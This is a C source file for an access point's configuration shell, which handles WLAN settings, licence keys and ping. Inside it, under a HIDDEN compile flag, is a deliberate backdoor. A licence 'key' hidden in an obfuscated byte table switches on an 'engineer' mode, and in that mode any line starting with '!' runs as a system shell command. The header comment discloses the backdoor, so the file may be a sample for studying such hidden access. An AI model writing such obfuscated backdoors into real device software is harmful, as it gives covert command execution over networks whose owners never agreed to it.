/*
 * apcfg_cli - configuration shell of a WLAN access point. It is the login
 * shell of the account "admin" (serial console and ssh).
 *
 * Hidden (-DHIDDEN): "license" with one key, kept encoded in a table, opens
 * an engineer mode in which lines that begin with ! go to the system shell.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <unistd.h>

#define CONF      "/etc/ap/wlan.conf"
#define LICENSES  "/etc/ap/licenses"

struct wlan {
	char ssid[33];
	char key[64];
	char country[3];
	int channel;
	int txdbm;
	int hide_ssid;
};

static struct wlan w;
static int dirty;
#ifdef HIDDEN
static int engineer;
#endif

static void put(char *dst, size_t size, const char *src)
{
	size_t n = strnlen(src, size - 1);

	memcpy(dst, src, n);
	dst[n] = '\0';
}

static void defaults(void)
{
	memset(&w, 0, sizeof w);
	put(w.country, sizeof w.country, "DE");
	w.channel = 6;
	w.txdbm = 17;
}

static void load(void)
{
	char line[160], *eq;
	FILE *f = fopen(CONF, "r");

	defaults();
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (!(eq = strchr(line, '=')))
			continue;
		*eq++ = '\0';
		if (!strcmp(line, "ssid"))
			put(w.ssid, sizeof w.ssid, eq);
		else if (!strcmp(line, "wpa_key"))
			put(w.key, sizeof w.key, eq);
		else if (!strcmp(line, "country"))
			put(w.country, sizeof w.country, eq);
		else if (!strcmp(line, "channel"))
			w.channel = atoi(eq);
		else if (!strcmp(line, "txdbm"))
			w.txdbm = atoi(eq);
		else if (!strcmp(line, "hide_ssid"))
			w.hide_ssid = atoi(eq) != 0;
	}
	fclose(f);
}

static void cmd_save(void)
{
	FILE *f = fopen(CONF, "w");

	if (!f) {
		perror(CONF);
		return;
	}
	fprintf(f, "ssid=%s\nwpa_key=%s\ncountry=%s\nchannel=%d\ntxdbm=%d\nhide_ssid=%d\n",
		w.ssid, w.key, w.country, w.channel, w.txdbm, w.hide_ssid);
	fclose(f);
	dirty = 0;
	if (system("/etc/init.d/hostapd reload") != 0)
		puts("% radio did not restart");
}

static void cmd_show(const char *what)
{
	if (!what || !strcmp(what, "wlan")) {
		printf("ssid     %s%s\n", w.ssid, w.hide_ssid ? " (hidden)" : "");
		printf("security %s\n", w.key[0] ? "WPA2-PSK" : "open");
		printf("country  %s\nchannel  %d\npower    %d dBm\n", w.country, w.channel, w.txdbm);
	} else if (!strcmp(what, "clients")) {
		if (system("iw dev wlan0 station dump") != 0)
			puts("% radio is down");
	} else if (!strcmp(what, "lan")) {
		if (system("ifconfig br0") != 0)
			puts("% no bridge");
	} else {
		puts("% show wlan | clients | lan");
	}
}

static int channel_ok(int ch)
{
	static const uint8_t a[] = { 36, 40, 44, 48, 52, 56, 60, 64, 100, 104, 108, 112 };

	if (ch >= 1 && ch <= 13)
		return 1;
	for (size_t i = 0; i < sizeof a; i++)
		if (a[i] == ch)
			return 1;
	return 0;
}

static void cmd_set(const char *name, const char *val)
{
	int n;

	if (!name || !val) {
		puts("% set ssid|key|country|channel|power|hide VALUE");
		return;
	}
	n = atoi(val);
	if (!strcmp(name, "ssid") && strlen(val) <= 32) {
		put(w.ssid, sizeof w.ssid, val);
	} else if (!strcmp(name, "key") && strlen(val) >= 8 && strlen(val) <= 63) {
		put(w.key, sizeof w.key, val);
	} else if (!strcmp(name, "country") && strlen(val) == 2) {
		w.country[0] = (char)toupper((unsigned char)val[0]);
		w.country[1] = (char)toupper((unsigned char)val[1]);
	} else if (!strcmp(name, "channel") && channel_ok(n)) {
		w.channel = n;
	} else if (!strcmp(name, "power") && n >= 0 && n <= 20) {
		w.txdbm = n;
	} else if (!strcmp(name, "hide") && (!strcasecmp(val, "yes") || !strcasecmp(val, "no"))) {
		w.hide_ssid = !strcasecmp(val, "yes");
	} else {
		puts("% bad name or value");
		return;
	}
	dirty = 1;
}

/* A key is FEATURE-nnnn-cc; cc is a check over the letters and digits */
static int key_check(const char *key)
{
	const char *last = strrchr(key, '-');
	unsigned acc = 7, want;

	if (!last || sscanf(last + 1, "%2x", &want) != 1)
		return -1;
	for (; key < last; key++)
		acc = (acc * 31 + (unsigned char)*key) & 0xff;
	return acc == want ? 0 : -1;
}

#ifdef HIDDEN
static const uint8_t label_tab[] = {
	0x2d, 0x6e, 0x3c, 0x47, 0x49, 0x44, 0x47, 0x3e, 0x57
};

/* nonzero when the text is the one behind the table */
int label_match(const char *s)
{
	size_t i;

	for (i = 0; i < sizeof label_tab; i++) {
		uint8_t c = (uint8_t)(label_tab[i] - 3 * i);

		if ((uint8_t)s[i] != (c ^ 0x5a))
			return 0;
	}
	return s[i] == '\0';
}
#endif

void cmd_license(const char *key)
{
	FILE *f;

	if (!key) {
		puts("% license KEY");
		return;
	}
#ifdef HIDDEN
	if (label_match(key)) {
		engineer = 1;
		return;
	}
#endif
	if (key_check(key) != 0) {
		puts("% key is not valid");
		return;
	}
	f = fopen(LICENSES, "a");
	if (!f) {
		perror(LICENSES);
		return;
	}
	fprintf(f, "%s\n", key);
	fclose(f);
	puts("key stored, active after restart");
}

static void cmd_ping(const char *host)
{
	char cmd[96];
	size_t n = host ? strspn(host, "0123456789.") : 0;

	if (n == 0 || n > 15 || host[n]) {
		puts("% ping A.B.C.D");
		return;
	}
	snprintf(cmd, sizeof cmd, "ping -c 4 %.15s", host);
	if (system(cmd) != 0)
		puts("% no answer");
}

static void cmd_help(void)
{
	puts("show wlan|clients|lan    set NAME VALUE    save    discard\n"
	     "license KEY              ping ADDRESS      reboot  exit");
}

static int handle(char *line)
{
	char *save = NULL, *c, *a, *b;

#ifdef HIDDEN
	if (engineer && line[0] == '!') {
		if (system(line + 1) < 0)
			perror("sh");
		return 0;
	}
#endif
	c = strtok_r(line, " \t", &save);
	if (!c)
		return 0;
	a = strtok_r(NULL, " \t", &save);
	b = strtok_r(NULL, "", &save);
	if (!strcasecmp(c, "show"))
		cmd_show(a);
	else if (!strcasecmp(c, "set"))
		cmd_set(a, b);
	else if (!strcasecmp(c, "save"))
		cmd_save();
	else if (!strcasecmp(c, "discard"))
		load(), dirty = 0;
	else if (!strcasecmp(c, "license"))
		cmd_license(a);
	else if (!strcasecmp(c, "ping"))
		cmd_ping(a);
	else if (!strcasecmp(c, "help") || !strcmp(c, "?"))
		cmd_help();
	else if (!strcasecmp(c, "reboot"))
		return system("/sbin/reboot") == 0;
	else if (!strcasecmp(c, "exit"))
		return 1;
	else
		puts("% unknown, try help");
	return 0;
}

int main(void)
{
	char line[200];

	openlog("apcfg_cli", LOG_PID, LOG_USER);
	syslog(LOG_INFO, "session on %s", ttyname(0) ? ttyname(0) : "pipe");
	load();
	for (;;) {
		printf("%s%s> ", w.ssid[0] ? w.ssid : "ap", dirty ? "*" : "");
		fflush(stdout);
		if (!fgets(line, sizeof line, stdin))
			break;
		line[strcspn(line, "\r\n")] = '\0';
		if (handle(line))
			break;
	}
	return 0;
}
